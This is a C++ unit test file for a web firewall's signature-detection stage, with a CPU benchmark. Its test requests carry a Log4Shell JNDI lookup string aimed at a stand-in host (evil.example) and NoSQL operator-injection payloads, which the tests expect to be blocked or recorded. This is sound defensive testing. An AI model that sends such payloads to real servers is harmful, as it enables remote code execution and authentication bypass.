// SignatureStage on a FakeExchange, with the canonical stage before it (as in the pipeline) and
// the shipped rules/signatures/*.yaml: verdicts, reasons, the combined threshold, the record.
#include "detectors/signatures/signature_stage.h"

#include <unistd.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>

#include "detectors/canonical/canonical_request.h"
#include "detectors/canonical/canonical_stage.h"
#include "detectors/signatures/signature_loader.h"
#include "detectors/signatures/signature_scanner.h"
#include "proxy/stats/stats.h"
#include "tests/unit/fakes/fake_exchange.h"

namespace rampart::signatures {
namespace {

const std::filesystem::path kRepo = std::filesystem::path(__FILE__)
                                        .parent_path()
                                        .parent_path()
                                        .parent_path()
                                        .parent_path()
                                        .parent_path();

Config signatureConfig(SignatureMode mode) {
  Config config = test::makeTestConfig();
  config.signatures.directory = (kRepo / "rules/signatures").string();
  config.routes.front().signatures.mode = mode;
  return config;
}

std::string replyOf(const Verdict& v) {
  if (v.kind == Verdict::Kind::Respond)
    return std::to_string(v.status) + " " + std::string(v.reason);
  return v.kind == Verdict::Kind::Continue ? "continue" : "other";
}

// The compiled set is shared by the tests (compiling the default set takes seconds).
std::shared_ptr<const ConfigSnapshot> sharedSnapshot(SignatureMode mode) {
  static std::shared_ptr<const ConfigSnapshot> block =
      test::makeTestSnapshot(signatureConfig(SignatureMode::Block));
  static std::shared_ptr<const ConfigSnapshot> detect =
      test::makeTestSnapshot(signatureConfig(SignatureMode::Detect));
  return mode == SignatureMode::Block ? block : detect;
}

struct Harness {
  explicit Harness(std::shared_ptr<const ConfigSnapshot> s) : snapshot(std::move(s)) {
    ex = std::make_unique<test::FakeExchange>(snapshot);
    // The real factories, from the snapshot's pipeline.
    for (const auto& factory : snapshot->stage_factories) {
      if (factory->name() == "rampart.canonical" || factory->name() == "rampart.signatures")
        stages.push_back(factory->create(ex->worker()));
    }
    REQUIRE(stages.size() == 2);
  }
  Verdict run(RequestHead req, std::string body = {}) {
    ex->setRequest(std::move(req));
    ex->matchRoute();
    for (auto& stage : stages) {
      Verdict v = stage->onRequestHeaders(*ex);
      if (!v.isContinue()) return v;
    }
    for (auto& stage : stages) {
      Verdict v = stage->onRequestBody(
          *ex, {reinterpret_cast<const std::byte*>(body.data()), body.size()}, true);
      if (!v.isContinue()) return v;
    }
    return Verdict::next();
  }
  std::shared_ptr<const ConfigSnapshot> snapshot;
  std::unique_ptr<test::FakeExchange> ex;
  std::vector<std::unique_ptr<Stage>> stages;
};

TEST_CASE("Signature stage: a score signature reaching the threshold blocks", "[signatures]") {
  Harness h(sharedSnapshot(SignatureMode::Block));
  const Verdict v = h.run(test::makeGet("/login?user%5B%24ne%5D=1"));
  CHECK(replyOf(v) == "403 anomaly_threshold");
  const DecisionRecord& r = h.ex->record();
  CHECK(r.signature_mode == "block");
  CHECK(r.signature_score == 5);
  REQUIRE(!r.signatures.empty());
  CHECK(r.signatures[0].id == "nosql.operator-in-name");
  CHECK(r.signatures[0].where == "query_name");
  CHECK(r.signatures[0].action == "score");
  CHECK(r.signatures[0].score == 5);
  auto& stats = h.ex->worker().stats();
  CHECK(stats.counter(Counter::signature_scored_total) == 1);
  CHECK(stats.counter(Counter::signature_threshold_blocks_total) == 1);
  CHECK(stats.detectorReason("signatures", "anomaly_threshold") == 1);
}

TEST_CASE("Signature stage: a block signature blocks outright", "[signatures]") {
  Harness h(sharedSnapshot(SignatureMode::Block));
  RequestHead req = test::makeGet("/");
  req.headers.add("x-api-version", "${jndi:ldap://evil.example/a}");
  CHECK(replyOf(h.run(req)) == "403 signature_block");
  const auto& matches = h.ex->record().signatures;
  const auto jndi = std::find_if(matches.begin(), matches.end(),
                                 [](const auto& m) { return m.id == "log4shell.jndi-lookup"; });
  REQUIRE(jndi != matches.end());
  CHECK(jndi->where == "header_value");
  CHECK(jndi->name == "x-api-version");
  CHECK(jndi->action == "block");
}

TEST_CASE("Signature stage: signatures scan the canonical body fields", "[signatures]") {
  Harness h(sharedSnapshot(SignatureMode::Block));
  RequestHead req = test::makeGet("/api/login");
  req.method = "POST";
  req.headers.add("content-type", "application/json");
  CHECK(replyOf(h.run(req, R"({"user":"admin","password":{"$gt":""}})")) ==
        "403 anomaly_threshold");
  CHECK(h.ex->record().signatures.at(0).where == "json_name");
}

TEST_CASE("Signature stage: benign requests pass with score 0", "[signatures]") {
  Harness h(sharedSnapshot(SignatureMode::Block));
  CHECK(h.run(test::makeGet("/search?q=it%27s+a+nice+day&page=2")).isContinue());
  CHECK(h.ex->record().signature_score == 0);
  CHECK(h.ex->record().signatures.empty());
  CHECK(h.ex->worker().stats().counter(Counter::signature_no_match_total) == 1);
}

TEST_CASE("Signature stage: CRS score plus signature score meet one threshold", "[signatures]") {
  Config config = signatureConfig(SignatureMode::Block);
  config.routes.front().waf.inbound_anomaly_threshold = 8;
  SECTION("CRS enforcing: 5 (signature) + 3 (CRS) >= 8 blocks") {
    config.routes.front().waf.mode = WafMode::Block;
    // Only the signature stage is run here: the record carries the CRS score as the
    // ModSecurity stage leaves it.
    Harness h(test::makeTestSnapshot(config));
    h.ex->record().inbound_anomaly_score = 3;
    CHECK(replyOf(h.run(test::makeGet("/login?user%5B%24ne%5D=1"))) == "403 anomaly_threshold");
  }
  SECTION("signature alone below the threshold passes") {
    Harness h(test::makeTestSnapshot(config));
    CHECK(h.run(test::makeGet("/login?user%5B%24ne%5D=1")).isContinue());
    CHECK(h.ex->record().signature_score == 5);
  }
  SECTION("a CRS score in detect mode does not count towards blocking") {
    config.routes.front().waf.mode = WafMode::Detect;
    Harness h(test::makeTestSnapshot(config));
    h.ex->record().inbound_anomaly_score = 10;
    CHECK(h.run(test::makeGet("/login?user%5B%24ne%5D=1")).isContinue());
  }
}

TEST_CASE("Signature stage: detect mode records and counts, never blocks", "[signatures]") {
  Harness h(sharedSnapshot(SignatureMode::Detect));
  RequestHead req = test::makeGet("/");
  req.headers.add("x-api-version", "${jndi:ldap://evil.example/a}");
  CHECK(h.run(req).isContinue());
  CHECK(h.ex->record().signature_mode == "detect");
  CHECK(!h.ex->record().signatures.empty());
  CHECK(h.ex->worker().stats().counter(Counter::signature_shadow_blocks_total) == 1);
}

TEST_CASE("Signature stage: no view fails closed in block mode", "[signatures]") {
  auto snapshot = sharedSnapshot(SignatureMode::Block);
  test::FakeExchange ex(snapshot);
  std::unique_ptr<Stage> stage;
  for (const auto& factory : snapshot->stage_factories)
    if (factory->name() == "rampart.signatures") stage = factory->create(ex.worker());
  REQUIRE(stage);
  ex.matchRoute();
  CHECK(replyOf(stage->onRequestBody(ex, {}, true)) == "500 signature_engine_error");
}

TEST_CASE("Signature stage: a bad pattern refuses the snapshot with file, id and message",
          "[signatures]") {
  const auto path = std::filesystem::temp_directory_path() /
                    ("rampart-" + std::to_string(getpid()) + "-bad-signature.yaml");
  std::ofstream(path) << "signatures:\n  - id: bad.anchor\n    description: bad\n"
                         "    pattern: 'a^b('\n    targets: [args]\n";
  Config config = signatureConfig(SignatureMode::Block);
  config.signatures.files = {path.string()};
  auto built = buildSnapshot(config, 1);
  REQUIRE_FALSE(built);
  CHECK_THAT(built.error().detail, Catch::Matchers::Contains(path.string()));
  CHECK_THAT(built.error().detail, Catch::Matchers::Contains("bad.anchor"));
  CHECK_THAT(built.error().detail, Catch::Matchers::Contains("does not compile"));
  std::filesystem::remove(path);
}

TEST_CASE("Signature stage: no factory when every route has signatures off", "[signatures]") {
  auto snapshot = test::makeTestSnapshot(test::makeTestConfig());
  auto built = makeSignatureStageFactory(*snapshot);
  REQUIRE(built);
  CHECK(built.value() == nullptr);
}

}  // namespace
}  // namespace rampart::signatures

namespace rampart::signatures {
namespace {

// CPU per request of the canonical view + the default signatures (issue 5's bench shapes), on
// this thread, inline as the worker runs them. Hidden: run with
//   build/release/tests/rampart_unit_tests "[.bench]" -s
double cpuMicrosPerRequest(Harness& h, const RequestHead& req, const std::string& body, int n) {
  timespec start{}, end{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &start);
  for (int i = 0; i < n; ++i) {
    h.ex->record() = DecisionRecord{};
    h.stages.clear();
    for (const auto& factory : h.snapshot->stage_factories) {
      if (factory->name() == "rampart.canonical" || factory->name() == "rampart.signatures")
        h.stages.push_back(factory->create(h.ex->worker()));
    }
    const Verdict v = h.run(req, body);
    INFO(replyOf(v));
    REQUIRE(v.isContinue());
  }
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &end);
  const double ns = (end.tv_sec - start.tv_sec) * 1e9 + (end.tv_nsec - start.tv_nsec);
  return ns / n / 1000.0;
}

// The canonical view alone (buildCanonicalRequest with the route's default policy).
double viewMicrosPerRequest(const RequestHead& req, const std::string& body, int n) {
  const canonical::CanonicalPolicy policy;
  timespec start{}, end{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &start);
  for (int i = 0; i < n; ++i) {
    auto view = canonical::buildCanonicalRequest({req.method, req.target, req.headers, body}, policy);
    REQUIRE(view);
  }
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &end);
  const double ns = (end.tv_sec - start.tv_sec) * 1e9 + (end.tv_nsec - start.tv_nsec);
  return ns / n / 1000.0;
}

// The default signatures' scan alone over a view built once (no stage, no record).
double scanMicrosPerRequest(const RequestHead& req, const std::string& body, int n) {
  auto loaded = loadSignatureDirectory((kRepo / "rules/signatures").string());
  REQUIRE(loaded);
  auto set = SignatureSet::compile(std::move(*loaded));
  REQUIRE(set);
  auto scratch = SignatureScratch::forSet(**set);
  REQUIRE(scratch);
  auto view = canonical::buildCanonicalRequest({req.method, req.target, req.headers, body}, {});
  REQUIRE(view);
  timespec start{}, end{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &start);
  for (int i = 0; i < n; ++i) {
    ScanReport report;
    SignatureScanner scanner(**set, *scratch, 1);
    REQUIRE(scanner.scan(view->fields, report));
  }
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &end);
  const double ns = (end.tv_sec - start.tv_sec) * 1e9 + (end.tv_nsec - start.tv_nsec);
  return ns / n / 1000.0;
}

TEST_CASE("Canonical view + signatures: CPU per request", "[.bench]") {
  Harness h(sharedSnapshot(SignatureMode::Block));
  RequestHead get = test::makeGet("/api/items/42?sort=desc&page=2&q=red+shoes");
  get.headers.add("accept-language", "en-GB,en;q=0.9");
  get.headers.add("cookie", "session=3f9a1c2b7d; theme=dark");
  get.headers.add("referer", "https://shop.example/catalogue?page=1");

  RequestHead json = get;
  json.method = "POST";
  json.target = "/api/comments";
  json.headers.add("content-type", "application/json");
  std::string json_body = R"({"post":1234,"author":{"name":"Zoë O'Brien","email":"zoe@example.org"},"tags":["news","updates"],"comments":[)";
  // Every comment's text differs (the scanner scans a repeated short value once, so identical
  // texts would flatter it); the keys repeat, as they do in real arrays of objects.
  const char* const sentences[] = {
      "It's a nice day; we'll meet at the park and have lunch",
      "Thanks for the quick reply, the order arrived on Tuesday",
      "Could you check why my invoice shows the old address?",
      "Great article - I shared it with my team (and my mum)",
      "Select the blue one if it's still in stock, please",
      "The app crashes when I rotate the screen & open settings"};
  for (int i = 0; json_body.size() < 1900; ++i) {
    json_body += (i ? "," : "");
    json_body += R"({"id":)" + std::to_string(1000 + i) + R"(,"text":")" + sentences[i % 6] +
                 " #" + std::to_string(i) + R"("})";
  }
  json_body += "]}";

  RequestHead form = json;
  form.target = "/contact";
  form.headers.remove("content-type");
  form.headers.add("content-type", "application/x-www-form-urlencoded");
  std::string form_body;
  std::string prose;  // about 1 KB of form-encoded text per field: 64 fields
  while (prose.size() < 1000) prose += "Hello+there%2C+I%27d+like+to+ask+about+my+order.+";
  for (int i = 0; form_body.size() < 64 * 1024; ++i) {
    form_body += (i ? "&" : "");
    form_body += "field" + std::to_string(i) + "=" + prose;
  }
  const int n = 2000;
  WARN("view only: GET " << viewMicrosPerRequest(get, {}, n) << " us, 2 KB JSON "
                         << viewMicrosPerRequest(json, json_body, n) << " us, 64 KB form "
                         << viewMicrosPerRequest(form, form_body, n / 10) << " us");
  WARN("scan only: GET " << scanMicrosPerRequest(get, {}, n) << " us, 2 KB JSON "
                         << scanMicrosPerRequest(json, json_body, n) << " us, 64 KB form "
                         << scanMicrosPerRequest(form, form_body, n / 10) << " us");
  WARN("GET: " << cpuMicrosPerRequest(h, get, {}, n) << " us/request");
  WARN("2 KB JSON (" << json_body.size() << " B): " << cpuMicrosPerRequest(h, json, json_body, n)
                    << " us/request");
  WARN("64 KB form (" << form_body.size() << " B): "
                      << cpuMicrosPerRequest(h, form, form_body, n / 10) << " us/request");
}

}  // namespace
}  // namespace rampart::signatures
